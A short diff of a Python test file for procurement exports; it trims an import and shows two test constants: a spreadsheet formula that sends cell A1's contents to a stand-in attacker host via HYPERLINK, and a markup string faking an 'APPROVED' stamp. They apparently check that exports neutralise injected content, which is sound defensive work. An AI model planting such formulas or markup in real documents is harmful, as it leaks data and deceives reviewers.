@@ -15,7 +15,7 @@ from pypdf import PdfReader
 from apps.procurement import exports
 from apps.procurement.services import build_comparison
 from tests.conftest import ARTIFACTS_DIR
-from tests.procurement.test_exports import _export, eager_celery, media_root  # noqa: F401
+from tests.procurement.test_exports import _export
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
 MARKUP = "<font size=40 color=red>APPROVED</font>"
